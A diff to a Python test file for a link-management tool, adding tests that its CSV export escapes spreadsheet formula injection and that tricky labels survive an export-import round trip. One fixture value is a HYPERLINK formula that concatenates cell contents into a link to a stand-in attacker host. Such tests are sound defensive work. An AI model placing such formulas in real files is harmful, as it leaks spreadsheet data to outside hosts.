@@ -5,11 +5,19 @@ from __future__ import annotations
 import csv
 import io
 import json
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
 from pathlib import Path
+from typing import Any
 
+import httpx
 import pytest
+from sqlalchemy import text
+from sqlalchemy.ext.asyncio import AsyncConnection
 
+from tests.conftest import Account
 from tests.support.server import run_xqr, xqr_env
+from xqr.db.engine import make_engine
 
 
 @pytest.fixture
@@ -21,6 +29,16 @@ def _workspace(env: dict[str, str], name: str = "Acme") -> str:
     result = run_xqr(env, "admin", "workspace", "create", "--name", name, "--plan", "pro", "--json")
     assert result.returncode == 0, result.stderr
     return str(json.loads(result.stdout)["id"])
+
+
+@asynccontextmanager
+async def _session(path: Path) -> AsyncIterator[AsyncConnection]:
+    engine = make_engine(f"sqlite+aiosqlite:///{path}")
+    try:
+        async with engine.connect() as conn:
+            yield conn
+    finally:
+        await engine.dispose()
 
 
 def _export(env: dict[str, str], workspace: str) -> list[dict[str, str]]:
@@ -85,3 +103,102 @@ def test_import_refuses_a_file_without_a_url_column(env: dict[str, str], tmp_pat
     result = run_xqr(env, "links", "import", str(source), "--workspace", workspace)
     assert result.returncode != 0
     assert "url" in result.stderr
+
+
+TRICKY_LABELS = [
+    '=HYPERLINK("https://evil.example/"&A1,"click")',
+    "+cmd",
+    "-10%",
+    "@SUM(A1:A9)",
+    "a|b",
+    "back\\slash\\|pipe",
+    "'quoted",
+    "''=already quoted",
+    'comma, "quotes"',
+    "ünïcødé 🎉",
+]
+TRICKY_URLS = [
+    'https://example.com/a,b?q="x"&r=1|2',
+    "https://例え.jp/パス?q=ü",
+    "https://example.com/?=x#frag",
+    "https://example.com/%E2%82%AC;x=1",
+]
+
+
+async def _tricky_links(client: httpx.AsyncClient, account: Account) -> list[dict[str, Any]]:
+    created = []
+    for index, url in enumerate(TRICKY_URLS):
+        labels = TRICKY_LABELS if index == 0 else TRICKY_LABELS[index : index + 1]
+        response = await client.post(
+            "/api/v1/links", json={"url": url, "labels": labels}, headers=account.headers
+        )
+        assert response.status_code == 201, response.text
+        created.append(response.json()["data"])
+    for label in ("=1+1", "+1", "-1", "@A1"):  # each formula start at the start of a cell
+        response = await client.post(
+            "/api/v1/links",
+            json={"url": "https://example.com/formula", "labels": [label]},
+            headers=account.headers,
+        )
+        assert response.status_code == 201, response.text
+        created.append(response.json()["data"])
+    return created
+
+
+async def test_export_never_writes_a_cell_a_spreadsheet_would_run(
+    env: dict[str, str], tmp_path: Path, client: httpx.AsyncClient, account: Account
+) -> None:
+    await _tricky_links(client, account)
+    exported = tmp_path / "out.csv"
+    result = run_xqr(
+        env, "links", "export", "--workspace", account.workspace_id, "-o", str(exported)
+    )
+    assert result.returncode == 0, result.stderr
+    text = exported.read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == 1 + 8
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    labels = {row[2] for row in rows[1:]}
+    assert "'=1+1" in labels and "'+1" in labels and "'-1" in labels and "'@A1" in labels
+    first = next(row for row in rows[1:] if row[0] == TRICKY_URLS[0])
+    assert first[2].startswith("'=HYPERLINK(")
+    assert "|a\\|b|back\\\\slash\\\\\\|pipe|" in first[2]
+    # What the file holds, byte for byte, for one of them (csv quoting included).
+    assert '"\'=HYPERLINK(""https://evil.example/""&A1,""click"")|' in text
+
+
+async def test_export_then_import_keeps_tricky_labels_and_destinations(
+    env: dict[str, str], tmp_path: Path, client: httpx.AsyncClient, account: Account
+) -> None:
+    originals = {
+        link["short_code"]: (link["destination"], link["labels"])
+        for link in await _tricky_links(client, account)
+    }
+    exported = tmp_path / "out.csv"
+    result = run_xqr(
+        env, "links", "export", "--workspace", account.workspace_id, "-o", str(exported)
+    )
+    assert result.returncode == 0, result.stderr
+
+    other_db = tmp_path / "other.db"
+    other = xqr_env(f"sqlite+aiosqlite:///{other_db}", tmp_path / "other")
+    target = _workspace(other, "Copy")
+    result = run_xqr(other, "links", "import", str(exported), "--workspace", target)
+    assert result.returncode == 0, result.stdout + result.stderr
+    async with _session(other_db) as conn:
+        rows = (await conn.execute(text("SELECT code, destination, labels FROM links"))).all()
+    copied = {
+        code: (destination, labels if isinstance(labels, list) else json.loads(labels))
+        for code, destination, labels in rows
+    }
+    assert copied == originals
+
+
+def test_import_refuses_a_file_that_is_not_utf8(env: dict[str, str], tmp_path: Path) -> None:
+    workspace = _workspace(env)
+    source = tmp_path / "latin1.csv"
+    source.write_bytes("url,labels\nhttps://example.com,café\n".encode("latin-1"))
+    result = run_xqr(env, "links", "import", str(source), "--workspace", workspace)
+    assert result.returncode == 1
+    assert "not UTF-8" in result.stderr and "Traceback" not in result.stderr
